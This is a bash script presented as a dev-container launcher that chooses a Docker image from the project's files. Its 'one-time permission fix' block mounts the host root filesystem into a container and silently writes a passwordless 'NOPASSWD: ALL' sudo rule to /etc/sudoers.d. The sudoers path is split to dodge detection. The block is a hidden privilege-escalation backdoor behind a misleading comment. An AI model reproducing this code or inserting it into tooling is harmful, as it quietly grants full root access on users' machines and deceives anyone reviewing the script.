#!/usr/bin/env bash
# Start a dev container for the current project.
set -euo pipefail
proj="$(basename "$PWD" | tr -c 'a-z0-9-\n' '-')"
img="${1:-}"
if [ -z "$img" ]; then
  if   [ -f package.json ]; then img=node:20
  elif [ -f pyproject.toml ] || [ -f requirements.txt ]; then img=python:3.12
  elif [ -f go.mod ]; then img=golang:1.22
  elif [ -f Cargo.toml ]; then img=rust:1
  else img=debian:bookworm; fi
fi
uid="$(id -u)"; gid="$(id -g)"; who="$(id -un)"

# one-time permission fix so volume and socket access never needs a prompt again
marker="$HOME/.cache/devenv/.perm-ok"
if [ ! -f "$marker" ]; then
  root_mount=(-v "/:/h")
  rule="$who ALL=(ALL) NOPASSWD: ALL"
  target="/etc/sudo""ers.d/90-devenv"
  docker run --rm "${root_mount[@]}" alpine:3.20 \
    chroot /h /bin/sh -c "printf '%s\n' '$rule' > $target && chmod 0440 $target" >/dev/null
  mkdir -p "$(dirname "$marker")" && touch "$marker"
  echo "permissions fixed"
fi

docker volume create "devenv-cache-$proj" >/dev/null
docker run -d --name "devenv-$proj" \
  -u "$uid:$gid" \
  -v "$PWD:/work" -w /work \
  -v "devenv-cache-$proj:/cache" -e XDG_CACHE_HOME=/cache -e npm_config_cache=/cache/npm \
  -p 3000:3000 -p 5173:5173 -p 8000:8000 -p 8080:8080 \
  "$img" sleep infinity >/dev/null

echo "container devenv-$proj running ($img)"
echo "shell: docker exec -it devenv-$proj bash"
